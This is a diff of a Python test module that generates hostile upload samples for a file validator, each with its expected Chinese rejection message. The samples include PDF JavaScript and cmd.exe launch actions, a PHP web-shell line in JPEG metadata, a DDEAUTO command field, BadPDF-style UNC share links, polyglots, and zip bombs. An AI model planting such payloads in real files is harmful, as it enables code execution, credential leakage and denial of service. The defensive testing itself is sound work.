@@ -1,177 +1,241 @@
-"""Files somebody might hand in, good and hostile, made here: `(name, bytes)`, and for the hostile ones why they are refused."""
+"""Files that may not come in, each made by a published trick: `what -> (name, bytes, what is said of it)`.
+
+A trick on a PDF is `bytes -> bytes`, so that it can be played on any; those on Office files are in `hostile_office.py`.
+"""
 
 from __future__ import annotations
 
 import zlib
 from collections.abc import Callable
 from io import BytesIO
-from struct import pack
-from zipfile import ZIP_DEFLATED, ZipFile
+from warnings import catch_warnings, simplefilter
 
-TYPES = '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'
-WORD = '<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>'
-BOOK = '<workbook xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheets/></workbook>'
-REL = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
+import pikepdf
 
-File = tuple[str, bytes]
+from .building import Office, chunk, jpeg_with, office, picture, png_with, raw_pdf, saved_pdf, stream, zipped
+from .everyday import external_book, report_pdf, sheet, slides, template, with_field, word
+from .hostile_office import ANY_TRICKS, ARCHIVES, BOOK_TRICKS, NET, OLE, SLIDE_TRICKS, WORD_TRICKS
 
 
-def zipped(parts: dict[str, str | bytes]) -> bytes:
-    made = BytesIO()
-    with ZipFile(made, "w", ZIP_DEFLATED, compresslevel=1) as archive:
-        for name, content in parts.items():
-            archive.writestr(name, content)
-    return made.getvalue()
+def _restricted(user: str = "") -> bytes:
+    def change(made: pikepdf.Pdf) -> None:
+        made.Root.OpenAction = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS="app.alert(1)")
+
+    return saved_pdf(change, encryption=pikepdf.Encryption(owner="x", user=user))
 
 
-def word(**parts: str | bytes) -> bytes:
-    """A Word file; `parts` by name with `__` for `/` and `_xml` for `.xml`."""
-    return zipped({"[Content_Types].xml": TYPES, "word/document.xml": WORD} | named(parts))
+def action(said: bytes, where: bytes = b"/OpenAction") -> bytes:
+    return raw_pdf(said, catalog=where + b" 4 0 R")
 
 
-def excel(**parts: str | bytes) -> bytes:
-    return zipped({"[Content_Types].xml": TYPES, "xl/workbook.xml": BOOK} | named(parts))
-
-
-def named(parts: dict[str, str | bytes]) -> dict[str, str | bytes]:
-    return {k.replace("__", "/").replace("_", "."): v for k, v in parts.items()}
-
-
-def rels(kind: str, target: str, mode: str = "External") -> str:
-    return (
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
-        f'<Relationship Id="r1" Type="{REL}/{kind}" Target="{target}" TargetMode="{mode}"/></Relationships>'
+def on_page(said: bytes) -> bytes:
+    """An action of a link on the page."""
+    return raw_pdf(b"<< /Type /Annot /Subtype /Link /Rect [0 0 9 9] /A " + said + b" >>").replace(
+        b"/MediaBox", b"/Annots [4 0 R] /MediaBox"
     )
 
 
-def pdf(inside: bytes = b"", trailer: bytes = b"") -> bytes:
+def packed(said: bytes, filtered: bool = True) -> bytes:
+    """An object within a stream of objects, with a table of cross-references in a stream."""
+    rows = b"5 0 " + said
+    inside = zlib.compress(rows, 9) if filtered else rows
+    made = raw_pdf(
+        stream(b"/Type /ObjStm /N 1 /First 4" + (b" /Filter /FlateDecode" if filtered else b""), inside).replace(
+            b"4 0 obj", b"9 0 obj"
+        ),
+        catalog=b"/OpenAction 5 0 R",
+    )
+    return made[: made.index(b"xref\n")] + _stream_table(made)
+
+
+def _stream_table(made: bytes) -> bytes:
+    places = [made.index(b"\n%d 0 obj" % number) + 1 for number in (1, 2, 3, 4)]
+    at = made.index(b"xref\n")
+    rows = [(0, 0, 255), *((1, place, 0) for place in places), (2, 4, 0), (1, at, 0)]
+    table = b"".join(bytes([kind]) + place.to_bytes(4, "big") + bytes([last]) for kind, place, last in rows)
     return (
-        b"%PDF-1.7\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + inside + b" >>\nendobj\n"
-        b"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\nxref\n0 1\n0000000000 65535 f \n"
-        b"trailer\n<< /Size 3 /Root 1 0 R " + trailer + b" >>\nstartxref\n120\n%%EOF\n"
+        b"6 0 obj\n"
+        + stream(b"/Type /XRef /Size 7 /W [1 4 1] /Root 1 0 R", table)
+        + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % at
     )
 
 
-def object_stream(inside: bytes) -> bytes:
-    packed = zlib.compress(inside, 9)
-    body = b"/X 9 0 R >>\nendobj\n9 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n"
-    return pdf(body % len(packed) + packed + b"\nendstream\nendobj\n3 0 obj\n<<")
+JS = b"<< /S /JavaScript /JS (app.alert\\(1\\)) >>"
+_EMBEDDED = b"<< /Type /Filespec /F (a.exe) /UF (a.exe) /EF << /F 5 0 R >> >>"
+
+PDFS: dict[str, tuple[Callable[[], bytes], str]] = {
+    "a script when opened": (lambda: action(JS), "脚本"),
+    "a script in other letters": (lambda: action(JS.replace(b"JavaScript", b"Java#53cript")), "脚本"),
+    "a script in a stream": (lambda: raw_pdf(b"<< /S /JavaScript /JS 5 0 R >>", stream(b"", b"app.alert(1)"), catalog=b"/OpenAction 4 0 R"), "脚本"),
+    "a script by name": (lambda: raw_pdf(b"<< /Names [(a) 5 0 R] >>", JS, catalog=b"/Names << /JavaScript 4 0 R >>"), "脚本"),
+    "a script of a page": (lambda: raw_pdf(JS).replace(b"/MediaBox", b"/AA << /O 4 0 R >> /MediaBox"), "第 1 页含有脚本"),
+    "a script of a link": (lambda: on_page(JS), "第 1 页含有脚本"),
+    "a script of a field": (lambda: raw_pdf(b"<< /FT /Tx /T (a) /AA << /K 5 0 R >> >>", JS, catalog=b"/AcroForm << /Fields [4 0 R] >>"), "脚本"),
+    "a script when closed": (lambda: raw_pdf(JS, catalog=b"/AA << /WC 4 0 R >>"), "脚本"),
+    "a script after another action": (lambda: action(b"<< /S /GoTo /D [3 0 R /Fit] /Next [" + JS + b"] >>"), "脚本"),
+    "a script of a bookmark": (lambda: raw_pdf(b"<< /Title (a) /A " + JS + b" >>", catalog=b"/Outlines << /First 4 0 R >>"), "脚本"),
+    "a script of a rendition": (lambda: on_page(b"<< /S /Rendition /OP 0 /JS (x) >>"), "脚本"),
+    "a packed script": (lambda: packed(JS), "脚本"),
+    "a script packed without compression": (lambda: packed(JS, filtered=False), "脚本"),
+    "a script with its table broken": (lambda: action(JS).replace(b"startxref\n", b"startxref\n9"), "脚本"),
+    "a script that the owner restricts": (_restricted, "脚本"),
+    "a script as a link": (lambda: on_page(b"<< /S /URI /URI (javascript:alert\\(1\\)) >>"), "启动本机程序"),
+    "a program": (lambda: action(b"<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
+    "a program of a link": (lambda: on_page(b"<< /S /Launch /Win << /F (cmd.exe) >> >>"), "启动程序"),
+    "a page of the net when opened": (lambda: action(b"<< /S /URI /URI (https://example.invalid) >>"), "自动执行"),
+    "another file when opened": (lambda: action(b"<< /S /GoToR /F (b.pdf) /D [0 /Fit] >>"), "自动执行"),
+    "a file on a share (BadPDF)": (lambda: raw_pdf(b"<< /S /GoToR /F (\\\\\\\\example.invalid\\\\a) /D [0 /Fit] >>").replace(b"/MediaBox", b"/AA << /O 4 0 R >> /MediaBox"), "外部文件"),
+    "a file on a share by a link": (lambda: on_page(b"<< /S /GoToR /F << /F (\\\\\\\\example.invalid\\\\a) >> /D [0 /Fit] >>"), "外部文件"),
+    "a form that is sent": (lambda: on_page(b"<< /S /SubmitForm /F (https://example.invalid) >>"), "发送表单"),
+    "a form that is filled": (lambda: on_page(b"<< /S /ImportData /F (a.fdf) >>"), "自动取数"),
+    "an embedded file opened": (lambda: action(b"<< /S /GoToE /T << /N (a) /R /C >> >>"), "嵌入的文件"),
+    "an attachment": (lambda: raw_pdf(_EMBEDDED, stream(b"/Type /EmbeddedFile", b"MZ"), catalog=b"/Names << /EmbeddedFiles << /Names [(a) 4 0 R] >> >>"), "嵌入"),
+    "an attachment pinned to a page": (lambda: raw_pdf(b"<< /Type /Annot /Subtype /FileAttachment /Rect [0 0 9 9] /FS 5 0 R >>", _EMBEDDED.replace(b"5 0", b"6 0"), stream(b"/Type /EmbeddedFile", b"MZ")).replace(b"/MediaBox", b"/Annots [4 0 R] /MediaBox"), "第 1 页嵌入"),
+    "an associated file": (lambda: raw_pdf(_EMBEDDED, stream(b"", b"MZ"), catalog=b"/AF [4 0 R]"), "嵌入"),
+    "a portfolio": (lambda: raw_pdf(_EMBEDDED, stream(b"/Type /EmbeddedFile", b"MZ"), catalog=b"/Collection << >> /AF [4 0 R]"), "嵌入"),
+    "a stream that lies elsewhere": (lambda: raw_pdf(stream(b"/F (https://example.invalid)", b"")), "外部文件"),
+    "a dynamic form": (lambda: raw_pdf(stream(b"", b"<xdp/>"), catalog=b"/AcroForm << /XFA 4 0 R /Fields [] >>"), "XFA"),
+    "rich media": (lambda: raw_pdf(b"<< /Type /Annot /Subtype /RichMedia /Rect [0 0 9 9] >>").replace(b"/MediaBox", b"/Annots [4 0 R] /MediaBox"), "多媒体"),
+    "a model with a script": (lambda: raw_pdf(stream(b"/Type /3D /Subtype /U3D /OnInstantiate 5 0 R", b"x"), stream(b"", b"x")), "脚本"),
+    "PostScript": (lambda: raw_pdf(stream(b"/Type /XObject /Subtype /PS", b"x")), "多媒体"),
+    "a password": (lambda: _restricted("secret"), "密码"),
+    "a bomb of packed objects": (lambda: packed(JS + b" " * (400 * 2**20)), "内容过多"),
+    "an archive after it": (lambda: raw_pdf() + zipped({"a.exe": b"MZ"}), "藏有另一个文件"),
+    "an archive in a stream": (lambda: raw_pdf(stream(b"", b"x")).replace(b"%%EOF", zipped({"a": b"b"}) + b"%%EOF"), "藏有另一个文件"),
+    "a page of HTML before it": (lambda: b"<html><script>x</script>\n" + raw_pdf(), "开头藏有"),
+    "a picture before it": (lambda: picture("JPEG", (8, 8))[:600] + raw_pdf(), ""),
+    "a program before it": (lambda: b"MZ" + bytes(90) + raw_pdf(), ""),
+    "much after it": (lambda: raw_pdf() + bytes(range(1, 256)) * 20, "附有其他内容"),
+    "no end": (lambda: raw_pdf()[:-8], "已损坏"),
+    "no page": (lambda: raw_pdf().replace(b"/Count 1", b"/Count 0").replace(b"[3 0 R]", b"[     ]"), "已损坏"),
+    "pages in a circle": (lambda: raw_pdf().replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), "已损坏"),
+}  # fmt: skip
+"""PDF files, written by hand."""
 
 
-def png(width: int = 4, height: int = 4) -> bytes:
-    def chunk(kind: bytes, data: bytes) -> bytes:
-        return pack(">I", len(data)) + kind + data + pack(">I", zlib.crc32(kind + data))
+def _acting(said: bytes) -> Callable[[bytes], bytes]:
+    """An action put into a PDF that some program made, as a page's own."""
 
-    header = pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
-    picture = zlib.compress(b"\0\0\0\0\0" * 4)
-    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", picture) + chunk(b"IEND", b"")
+    def change(data: bytes) -> bytes:
+        with pikepdf.open(BytesIO(data)) as opened:
+            made = opened.make_indirect(pikepdf.Object.parse(said))
+            opened.pages[-1].obj.AA = pikepdf.Dictionary(O=made)
+            saved = BytesIO()
+            opened.save(saved, object_stream_mode=pikepdf.ObjectStreamMode.generate)
+        return saved.getvalue()
 
-
-def jpeg(width: int = 4, height: int = 4) -> bytes:
-    sized = b"\xff\xc0" + pack(">HBHHB", 11, 8, height, width, 1) + b"\1\x11\0"
-    return b"\xff\xd8\xff\xe0\0\4ab" + sized + b"\xff\xda\0\2data\xff\xd9"
-
-
-def million_rows() -> bytes:
-    head = '<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
-    # Random enough that it is no bomb by its ratio alone.
-    rows = "".join(f'<row r="{n}"><c r="A{n}"><v>{n * 7919 % 1000003}</v></c></row>' for n in range(1, 1_000_001))
-    return excel(xl__worksheets__sheet1_xml=head + rows + "</sheetData></worksheet>")
+    return change
 
 
-def many_elements() -> bytes:
-    inside = "".join(f'<w:r w:v="{n * 7919 % 1000003}"/>' for n in range(900_000))
-    return word(word__footnotes_xml=WORD.replace("<w:p/>", inside))
+def _catalogued(key: str, said: bytes) -> Callable[[bytes], bytes]:
+    def change(data: bytes) -> bytes:
+        with pikepdf.open(BytesIO(data)) as opened, catch_warnings():
+            simplefilter("ignore", pikepdf.PageCopyWarning)
+            opened.Root[key] = opened.make_indirect(pikepdf.Object.parse(said))
+            saved = BytesIO()
+            opened.save(saved)
+        return saved.getvalue()
+
+    return change
 
 
-LAUGHS = '<!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>' + WORD.replace("<w:p/>", "&b;")
-XXE = '<!DOCTYPE l [<!ENTITY a SYSTEM "file:///etc/passwd">]>' + WORD.replace("<w:p/>", "&a;")
-DDE = WORD.replace("<w:p/>", "<w:p><w:r><w:instrText> DDEAUTO cmd &quot;/c calc&quot;</w:instrText></w:r></w:p>")
-FIELD = WORD.replace("<w:p/>", '<w:fldSimple w:instr=" INCLUDEPICTURE http://example.invalid/a.png "/>')
-MACRO_TYPES = TYPES.replace(
-    "/>", '><Override PartName="/w" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>'
-)
+def _attached(data: bytes) -> bytes:
+    with pikepdf.open(BytesIO(data)) as opened:
+        opened.attachments["a.exe"] = b"MZ" + bytes(90)
+        saved = BytesIO()
+        opened.save(saved)
+    return saved.getvalue()
 
 
-def encrypted() -> bytes:
-    made = bytearray(word())
-    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
-        place = made.find(signature)
-        made[place + at] |= 1
-    return bytes(made)
+PDF_TRICKS: dict[str, tuple[Callable[[bytes], bytes], str]] = {
+    "a script of a page": (_acting(JS), "脚本"),
+    "a program of a page": (_acting(b"<< /S /Launch /F (cmd.exe) >>"), "启动程序"),
+    "a share of a page": (_acting(b"<< /S /GoToR /F (\\\\\\\\example.invalid\\\\a) /D [0 /Fit] >>"), "外部文件"),
+    "a page of the net": (_acting(b"<< /S /URI /URI (https://example.invalid) >>"), "自动执行"),
+    "a form that is sent": (_acting(b"<< /S /SubmitForm /F (https://example.invalid) >>"), "发送表单"),
+    "a script when opened": (_catalogued("/OpenAction", JS), "脚本"),
+    "a script by name": (_catalogued("/Names", b"<< /JavaScript << /Names [(a) " + JS + b"] >> >>"), "脚本"),
+    "a dynamic form": (_catalogued("/AcroForm", b"<< /Fields [] /XFA [(a) (b)] >>"), "XFA"),
+    "an attachment": (_attached, "嵌入"),
+    "an archive after it": (lambda data: data + zipped({"a.exe": b"MZ"}), "藏有另一个文件"),
+    "HTML before it": (lambda data: b"<!doctype html>" + data, "开头藏有"),
+}  # fmt: skip
+"""Tricks on a PDF of any origin."""
 
 
-def twice() -> bytes:
-    made = BytesIO()
-    with ZipFile(made, "w") as archive:
-        for name in ("[Content_Types].xml", "word/document.xml", "WORD/document.xml"):
-            archive.writestr(name, TYPES if "Content" in name else WORD)
-    return made.getvalue()
+PICTURES: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    "a RAR after it": ("a.jpg", lambda: picture("JPEG") + b"Rar!\x1a\x07\x00" + bytes(90), "藏有另一个文件"),
+    "a 7z after it": ("a.jpg", lambda: picture("JPEG") + b"7z\xbc\xaf\x27\x1c" + bytes(90), "藏有另一个文件"),
+    "a ZIP after it": ("a.jpg", lambda: picture("JPEG") + zipped({"a": b"b"}), "藏有另一个文件"),
+    "a program after it": ("a.jpg", lambda: picture("JPEG") + b"MZ" + bytes(90), "藏有另一个文件"),
+    "a PDF after a PNG": ("a.png", lambda: picture() + raw_pdf(), ""),
+    "a ZIP in a PNG": ("a.png", lambda: png_with(chunk(b"zzZz", zipped({"a": b"b"}))), "藏有另一个文件"),
+    "a ZIP after a PNG": ("a.png", lambda: picture() + zipped({"a": b"b"}), "藏有另一个文件"),
+    "PHP in a JPEG's words": ("a.jpg", lambda: jpeg_with(0xFE, b"<?php system($_GET[0]); ?>"), "程序代码"),
+    "PHP in a JPEG's place and time": ("a.jpg", lambda: jpeg_with(0xE1, b"Exif\0\0<?php eval($x) ?>"), "程序代码"),
+    "a script in a PNG's words": ("a.png", lambda: png_with(chunk(b"tEXt", b"Comment\0<script>alert(1)</script>")), "程序代码"),
+    "a script in a PNG's packed words": ("a.png", lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"<script>x</script>"))), "程序代码"),
+    "a bomb in a PNG's words": ("a.png", lambda: png_with(chunk(b"zTXt", b"Comment\0\0" + zlib.compress(bytes(60 * 2**20)))), "压缩炸弹"),
+    "a bomb in a PNG's colours": ("a.png", lambda: png_with(chunk(b"iCCP", b"x\0\0" + zlib.compress(bytes(60 * 2**20)))), "压缩炸弹"),
+    "a picture that is a script": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\x2f\x2a" + b"A" * 0x2F28 + picture("JPEG")[2:], "脚本"),
+    "a picture that is a PDF": ("a.jpg", lambda: jpeg_with(0xFE, b"%PDF-1.4"), "藏有另一个文件"),
+    "too many pixels": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 234, 96] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IEND", b""), "尺寸过大"),
+    "no pixels": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 0, 0] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IEND", b""), "已损坏"),
+    "fewer pixels than it says": ("a.png", lambda: b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", bytes([0, 0, 1, 0] * 2 + [8, 0, 0, 0, 0])) + chunk(b"IDAT", zlib.compress(b"x")) + chunk(b"IEND", b""), "已损坏"),
+    "half a PNG": ("a.png", lambda: picture()[:-40], "已损坏"),
+    "a changed PNG": ("a.png", lambda: picture()[:60] + b"?" + picture()[61:], "已损坏"),
+    "half a JPEG": ("a.jpg", lambda: picture("JPEG", (900, 900))[:2000], "已损坏"),
+    "a JPEG without pixels": ("a.jpg", lambda: b"\xff\xd8\xff\xe0\0\4ab\xff\xd9", "已损坏"),
+    "a JPEG of too many pixels": ("a.jpg", lambda: picture("JPEG").replace(b"\xff\xc0\0\x11\x08\0\x30\0\x40", b"\xff\xc0\0\x11\x08\xf0\x30\xf0\x40"), "尺寸过大"),
+}  # fmt: skip
+
+NAMES: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    "nothing": ("a.docx", bytes, "空的"),
+    "too many bytes": ("a.txt", lambda: b"a" * (20 * 2**20 + 1), "超过 20 MB"),
+    "a program": ("a.exe", lambda: b"MZ" + bytes(100), "“exe”"),
+    "no ending": ("a", lambda: b"abc", "“无后缀”"),
+    "an old Word file": ("a.doc", lambda: OLE, "另存为”，保存为 .docx"),
+    "an old Excel file": ("a.xls", lambda: OLE, "保存为 .xlsx"),
+    "a file of WPS": ("a.wps", lambda: OLE, "保存为 .docx"),
+    "a sheet of WPS": ("a.et", lambda: OLE, "保存为 .xlsx"),
+    "a picture of an iPhone": ("a.HEIC", lambda: b"\0\0\0\x18ftypheic", "JPEG"),
+    "a page of HTML": ("a.html", lambda: b"<script>alert(1)</script>", "“html”"),
+    "a drawing": ("a.svg", lambda: b"<svg/>", "“svg”"),
+    "an archive": ("a.zip", lambda: zipped({"a": b"b"}), "逐个上传"),
+    "a file with macros by its ending": ("a.docm", word, "“docm”"),
+    "a program called PDF": ("a.pdf", lambda: b"MZ" + bytes(100), "不是 pdf"),
+    "an archive called Word": ("a.docx", lambda: zipped({"a.txt": b"b"}), "已损坏"),
+    "Excel called Word": ("a.docx", sheet, "Excel 工作簿"),
+    "a picture called PDF": ("a.pdf", picture, "PNG 图片"),
+    "an old Word file called docx": ("a.docx", lambda: OLE, "只改了后缀"),
+    "a Word file with a password": ("a.docx", lambda: OLE + "EncryptedPackage".encode("utf-16-le"), "打开密码"),
+    "bytes called text": ("a.txt", lambda: bytes(range(256)), "不是纯文本"),
+    "a program called text": ("a.txt", lambda: b"MZ\x90\0\3\0\0\0" + bytes(200), "不是纯文本"),
+    "a Word file called text": ("a.txt", word, "不是纯文本"),
+    "a name that reads backwards": ("a\u202excod.exe", lambda: b"MZ", "“exe”"),
+}  # fmt: skip
 
 
-GOOD: dict[str, Callable[[], File]] = {
-    "a Word file with a link": lambda: (
-        "a.docx",
-        word(word___rels__document_xml_rels=rels("hyperlink", "https://example.invalid")),
-    ),
-    "an Excel file": lambda: (
-        "a.xlsx",
-        excel(xl__worksheets__sheet1_xml="<worksheet><sheetData><row r='1'/></sheetData></worksheet>"),
-    ),
-    "a PDF": lambda: ("报告.PDF", pdf(b"/OpenAction [2 0 R /Fit]")),
-    "a PDF with packed objects": lambda: ("a.pdf", object_stream(b"9 0 << /Type /Page >>")),
-    "a PNG": lambda: ("a.png", png()),
-    "a JPEG": lambda: ("a.jpg", jpeg()),
-    "text": lambda: ("a.txt", "廉政建设\r\n".encode()),
-    "text of an old machine": lambda: ("a.txt", "廉政建设\r\n".encode("gb18030")),
-}
+def _played(trick: Callable[[Office], object], on: Callable[[], bytes]) -> Callable[[], bytes]:
+    def made() -> bytes:
+        data = Office(on())
+        trick(data)
+        return data.data()
 
-HOSTILE: dict[str, tuple[Callable[[], File], str]] = {
-    "nothing": (lambda: ("a.docx", b""), "空的"),
-    "too many bytes": (lambda: ("a.txt", b"a" * (20 * 2**20 + 1)), "超过 20 MB"),
-    "a program": (lambda: ("a.exe", b"MZ" + bytes(100)), "不能上传“exe”"),
-    "no ending": (lambda: ("a", b"abc"), "不能上传“无后缀”"),
-    "an old Word file": (lambda: ("a.doc", b"\xd0\xcf\x11\xe0" + bytes(600)), "不能上传“doc”"),
-    "a page of HTML": (lambda: ("a.html", b"<script>alert(1)</script>"), "不能上传“html”"),
-    "a drawing that may run scripts": (lambda: ("a.svg", b"<svg/>"), "不能上传“svg”"),
-    "an archive": (lambda: ("a.zip", zipped({"a": "b"})), "不能上传“zip”"),
-    "a program called PDF": (lambda: ("a.pdf", b"MZ" + bytes(100)), "不是 pdf 格式"),
-    "an archive called Word": (lambda: ("a.docx", zipped({"a.txt": "b"})), "内容与后缀不符"),
-    "Excel called Word": (lambda: ("a.docx", excel()), "内容与后缀不符"),
-    "half a Word file": (lambda: ("a.docx", word()[:200]), "已损坏"),
-    "an old Excel file called xlsx": (lambda: ("a.xlsx", b"\xd0\xcf\x11\xe0" + bytes(600)), "不是 xlsx 格式"),
-    "a file with macros by its ending": (lambda: ("a.docm", word()), "不能上传“docm”"),
-    "macros": (lambda: ("a.docx", word(word__vbaProject_bin=b"x")), "宏"),
-    "macros by their type": (lambda: ("a.docx", zipped({"[Content_Types].xml": MACRO_TYPES, "word/document.xml": WORD})), "宏"),
-    "an Excel 4 macro sheet": (lambda: ("a.xlsx", excel(xl__macrosheets__sheet1_xml="<a/>")), "宏"),
-    "ActiveX": (lambda: ("a.docx", word(word__activeX__a_xml="<a/>")), "控件"),
-    "an OLE object": (lambda: ("a.docx", word(word__embeddings__oleObject1_bin=b"x")), "OLE"),
-    "another workbook's data": (lambda: ("a.xlsx", excel(xl__externalLinks__l1_xml="<a/>")), "外部数据"),
-    "a template from elsewhere": (lambda: ("a.docx", word(word___rels__settings_xml_rels=rels("attachedTemplate", "https://example.invalid/t"))), "外部模板"),
-    "a picture from elsewhere": (lambda: ("a.docx", word(word___rels__document_xml_rels=rels("image", "//example.invalid/p"))), "外部模板"),
-    "a DDE field": (lambda: ("a.docx", word(word__document_xml=DDE)), "DDE"),
-    "a field that fetches": (lambda: ("a.docx", word(word__document_xml=FIELD)), "DDE"),
-    "a billion laughs": (lambda: ("a.docx", word(word__document_xml=LAUGHS)), "DTD"),
-    "an external entity": (lambda: ("a.docx", word(word__document_xml=XXE)), "DTD"),
-    "XML that is none": (lambda: ("a.docx", word(word__document_xml="<a><b></a>")), "已损坏"),
-    "a bomb of one part": (lambda: ("a.docx", word(word__media__a_png=bytes(60 * 2**20))), "压缩炸弹"),
-    "a bomb of many parts": (lambda: ("a.xlsx", excel(**{f"p{n}": b"x" for n in range(2_001)})), "压缩炸弹"),
-    "a million rows": (lambda: ("a.xlsx", million_rows()), "行"),
-    "a million elements": (lambda: ("a.docx", many_elements()), "内容过多"),
-    "a path upwards": (lambda: ("a.docx", zipped({"[Content_Types].xml": TYPES, "word/document.xml": WORD, "../x.xml": "<a/>"})), "已损坏"),
-    "two parts of one name": (lambda: ("a.docx", twice()), "已损坏"),
-    "a password": (lambda: ("a.docx", encrypted()), "密码"),
-    "a PDF without an end": (lambda: ("a.pdf", pdf()[:-40]), "已损坏"),
-    "a PDF with a script": (lambda: ("a.pdf", pdf(b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>")), "脚本"),
-    "a PDF with a script in other letters": (lambda: ("a.pdf", pdf(b"/OpenAction << /S /Java#53cript >>")), "脚本"),
-    "a PDF that starts a program": (lambda: ("a.pdf", pdf(b"/OpenAction << /S /Launch /F (cmd.exe) >>")), "脚本"),
-    "a PDF with a file in it": (lambda: ("a.pdf", pdf(b"/Names << /EmbeddedFiles 4 0 R >>")), "嵌入"),
-    "a PDF with a packed script": (lambda: ("a.pdf", object_stream(b"9 0 << /S /JavaScript >>")), "脚本"),
-    "a PDF of a bomb": (lambda: ("a.pdf", object_stream(bytes(80 * 2**20))), "压缩炸弹"),
-    "an encrypted PDF": (lambda: ("a.pdf", pdf(trailer=b"/Encrypt 5 0 R")), "加了密"),
-    "a picture of too many pixels": (lambda: ("a.png", png(60_000, 60_000)), "尺寸过大"),
-    "half a picture": (lambda: ("a.png", png()[:-20]), "已损坏"),
-    "half a photograph": (lambda: ("a.jpg", jpeg()[:-6]), "已损坏"),
-    "a photograph of too many pixels": (lambda: ("a.jpg", jpeg(60_000, 60_000)), "尺寸过大"),
-    "bytes called text": (lambda: ("a.txt", bytes(range(256))), "不是纯文本"),
+    return made
+
+
+HOSTILE: dict[str, tuple[str, Callable[[], bytes], str]] = {
+    **{f"name: {what}": one for what, one in NAMES.items()},
+    **{f"picture: {what}": one for what, one in PICTURES.items()},
+    **{f"docx: {what}": ("a.docx", _played(trick, word), why) for what, (trick, why) in WORD_TRICKS.items()},
+    **{f"xlsx: {what}": ("a.xlsx", _played(trick, sheet), why) for what, (trick, why) in BOOK_TRICKS.items() if what not in ANY_TRICKS},
+    **{f"pptx: {what}": ("a.pptx", _played(trick, slides), why) for what, (trick, why) in SLIDE_TRICKS.items() if what not in ANY_TRICKS},
+    **{f"archive: {what}": ("a.docx", (lambda change=change: change(word())), why) for what, (change, why) in ARCHIVES.items()},
+    **{f"pdf: {what}": ("a.pdf", make, why) for what, (make, why) in PDFS.items()},
+    **{f"pdf of a program: {what}": ("a.pdf", (lambda change=change: change(report_pdf())), why) for what, (change, why) in PDF_TRICKS.items()},
+    "docx: the least": ("a.docx", lambda: office("docx", '<w:p><w:r><w:fldChar w:fldCharType="begin"/><w:instrText>DDE a</w:instrText></w:r></w:p>'), "DDE"),
+    "docx: a template in the settings": ("a.docx", lambda: template(NET), "模板"),
+    "docx: a field by hand": ("a.docx", lambda: with_field(" DDEAUTO cmd "), "DDEAUTO"),
+    "xlsx: figures on the net": ("a.xlsx", lambda: external_book(NET), "外部文件"),
 }  # fmt: skip
